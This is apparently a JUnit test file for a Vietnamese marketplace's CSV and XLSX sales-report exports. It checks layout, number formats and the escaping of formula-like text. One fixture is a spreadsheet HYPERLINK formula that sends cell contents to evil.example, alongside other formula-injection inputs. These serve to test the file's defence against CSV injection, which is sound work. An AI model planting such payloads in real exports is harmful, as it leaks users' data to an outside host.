package vn.langnghe.market.reporting;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

class ReportExportsTest {

  static final ReportTable SALES = new ReportTable(
      "Doanh số theo xã",
      List.of("Kỳ: 01/06/2025 – 30/06/2025", "Danh mục: Gốm, sứ", "Đơn vị: \"hiện hành\", sau 1/7/2025"),
      List.of("Xã, phường", "Số đơn", "Số món", "Doanh thu (₫)", "Hoàn tiền (₫)", "Tỷ lệ không tiền mặt"),
      List.of(
          row("Xã Trà Giang", 12, 30L, 18_750_000L, 0L, 0.75),
          row("Xã Vũ Tiên, gồm cả Vũ Vân", 3, 4L, 2_600_000L, 650_000L, 1.0),
          row("Phường Trần Hưng Đạo\nkhu cũ", 0, 0L, 0L, 0L, null)));

  static List<Object> row(Object... cells) {
    return Arrays.asList(cells);
  }

  @Test
  void csvStartsWithABomAndReadsBackAsTheSameRows() throws IOException {
    byte[] file = ReportExports.csv(SALES);

    assertThat(Arrays.copyOf(file, 3)).containsExactly(0xEF, 0xBB, 0xBF);
    String text = new String(file, 3, file.length - 3, StandardCharsets.UTF_8);
    assertThat(text).contains("\r\n").contains("Xã Trà Giang");

    List<CSVRecord> records;
    try (CSVParser parser = CSVParser.parse(new StringReader(text), CSVFormat.RFC4180)) {
      records = parser.getRecords();
    }
    assertThat(records.get(0).values()).containsExactly("Doanh số theo xã");
    assertThat(records.subList(1, 4)).extracting(r -> r.get(0)).containsExactlyElementsOf(SALES.filterLines());
    assertThat(records.get(4).values()).containsExactly("");
    assertThat(records.get(5).values()).containsExactlyElementsOf(SALES.headers());
    assertThat(records.subList(6, records.size())).extracting(r -> List.of(r.values())).containsExactly(
        List.of("Xã Trà Giang", "12", "30", "18750000", "0", "0.75"),
        List.of("Xã Vũ Tiên, gồm cả Vũ Vân", "3", "4", "2600000", "650000", "1.0"),
        List.of("Phường Trần Hưng Đạo\nkhu cũ", "0", "0", "0", "0", ""));
  }

  @Test
  void xlsxHasTheFiltersABoldHeaderAndNumericCells() throws IOException {
    byte[] file = ReportExports.xlsx(SALES);

    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(file))) {
      Sheet sheet = workbook.getSheetAt(0);
      assertThat(sheet.getSheetName()).isEqualTo("Doanh số theo xã");
      assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).isEqualTo("Doanh số theo xã");
      for (int i = 0; i < SALES.filterLines().size(); i++) {
        assertThat(sheet.getRow(1 + i).getCell(0).getStringCellValue()).isEqualTo(SALES.filterLines().get(i));
      }
      assertThat(sheet.getRow(4)).isNull();

      Row header = sheet.getRow(5);
      assertThat(cells(header)).containsExactlyElementsOf(SALES.headers());
      assertThat(workbook.getFontAt(header.getCell(0).getCellStyle().getFontIndex()).getBold()).isTrue();
      assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 6);

      assertThat(List.of(cells(sheet.getRow(6)), cells(sheet.getRow(7)), cells(sheet.getRow(8)))).containsExactly(
          List.of("Xã Trà Giang", 12.0, 30.0, 18_750_000.0, 0.0, 0.75),
          List.of("Xã Vũ Tiên, gồm cả Vũ Vân", 3.0, 4.0, 2_600_000.0, 650_000.0, 1.0),
          Arrays.asList("Phường Trần Hưng Đạo\nkhu cũ", 0.0, 0.0, 0.0, 0.0, null));
      assertThat(sheet.getLastRowNum()).isEqualTo(8);

      Row first = sheet.getRow(6);
      assertThat(first.getCell(3).getCellStyle().getDataFormatString()).isEqualTo("#,##0");
      assertThat(first.getCell(5).getCellStyle().getDataFormatString()).isEqualTo("0.0%");
      assertThat(sheet.getColumnWidth(0)).isGreaterThan(sheet.getColumnWidth(1));
      assertThat(sheet.getColumnWidth(3)).isGreaterThanOrEqualTo("Doanh thu (₫)".length() * 256);
    }
  }

  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Xem\")";

  static final ReportTable INJECTED = new ReportTable("Doanh số theo cửa hàng", List.of("@Kỳ"),
      List.of("Cửa hàng", "Số đơn", "Hoàn tiền (VND)", "Tỷ lệ"),
      List.of(
          row(HYPERLINK, 1, -650_000L, -0.5),
          row("+84 912 345 678", 2, 0L, 1.0),
          row("-Xưởng", 3, 0L, 0.0),
          row("@SUM(1+1)", 4, 0L, 0.0),
          row("\tTab", 5, 0L, 0.0),
          row("\rCR", 6, 0L, 0.0),
          row("Xưởng = đẹp", 7, 0L, 0.0)));

  @Test
  void csvTextThatLooksLikeAFormulaGetsAnApostropheAndNumbersStayNumbers() throws IOException {
    String text = new String(ReportExports.csv(INJECTED), StandardCharsets.UTF_8).substring(1);
    List<CSVRecord> records;
    try (CSVParser parser = CSVParser.parse(new StringReader(text), CSVFormat.RFC4180)) {
      records = parser.getRecords();
    }
    assertThat(records.get(1).get(0)).isEqualTo("'@Kỳ");
    assertThat(records.subList(4, records.size())).extracting(r -> List.of(r.values())).containsExactly(
        List.of("'" + HYPERLINK, "1", "-650000", "-0.5"),
        List.of("'+84 912 345 678", "2", "0", "1.0"),
        List.of("'-Xưởng", "3", "0", "0.0"),
        List.of("'@SUM(1+1)", "4", "0", "0.0"),
        List.of("'\tTab", "5", "0", "0.0"),
        List.of("'\rCR", "6", "0", "0.0"),
        List.of("Xưởng = đẹp", "7", "0", "0.0"));
  }

  @Test
  void xlsxWritesAFormulaLikeNameAsQuotedTextAndNegativeNumbersAsNumbers() throws IOException {
    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(ReportExports.xlsx(INJECTED)))) {
      Sheet sheet = workbook.getSheetAt(0);
      Cell name = sheet.getRow(4).getCell(0);
      assertThat(name.getCellType()).isEqualTo(CellType.STRING);
      assertThat(name.getStringCellValue()).isEqualTo(HYPERLINK);
      assertThat(name.getCellStyle().getQuotePrefixed()).isTrue();
      assertThat(sheet.getRow(4).getCell(2).getCellType()).isEqualTo(CellType.NUMERIC);
      assertThat(sheet.getRow(4).getCell(2).getNumericCellValue()).isEqualTo(-650_000.0);
      assertThat(sheet.getRow(10).getCell(0).getCellStyle().getQuotePrefixed()).isFalse();
      for (Row row : sheet) {
        for (Cell cell : row) {
          assertThat(cell.getCellType()).as("no formula anywhere").isNotEqualTo(CellType.FORMULA);
        }
      }
    }
  }

  @Test
  void anEmptyReportStillSaysWhatItCovers() throws IOException {
    ReportTable empty = new ReportTable("Doanh số", List.of("Kỳ: 01/01/2026 – 31/01/2026"),
        List.of("Ngày", "Doanh thu (₫)"), List.of());

    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(ReportExports.xlsx(empty)))) {
      Sheet sheet = workbook.getSheetAt(0);
      assertThat(sheet.getRow(1).getCell(0).getStringCellValue()).isEqualTo("Kỳ: 01/01/2026 – 31/01/2026");
      assertThat(cells(sheet.getRow(3))).containsExactly("Ngày", "Doanh thu (₫)");
    }
    assertThat(new String(ReportExports.csv(empty), StandardCharsets.UTF_8))
        .isEqualTo("\uFEFFDoanh số\r\nKỳ: 01/01/2026 – 31/01/2026\r\n\r\nNgày,Doanh thu (₫)\r\n");
  }

  @Test
  void aRowMustFitTheColumnsAndCellsMustBeTextOrNumbers() {
    assertThatThrownBy(() -> new ReportTable("x", List.of(), List.of("a", "b"), List.of(row("only one"))))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> new ReportTable("x", List.of(), List.of("a"), List.of(row(new java.math.BigDecimal("1")))))
        .isInstanceOf(IllegalArgumentException.class);
  }

  /** The row's values as numbers (Double), text or null, as many as the header row has columns. */
  private static List<Object> cells(Row row) {
    Row header = row.getSheet().getRow(row.getSheet().getPaneInformation().getHorizontalSplitPosition() - 1);
    List<Object> values = new ArrayList<>();
    for (int c = 0; c < header.getLastCellNum(); c++) {
      Cell cell = row.getCell(c);
      values.add(cell == null || cell.getCellType() == CellType.BLANK ? null
          : cell.getCellType() == CellType.NUMERIC ? (Object) cell.getNumericCellValue() : cell.getStringCellValue());
    }
    return values;
  }
}
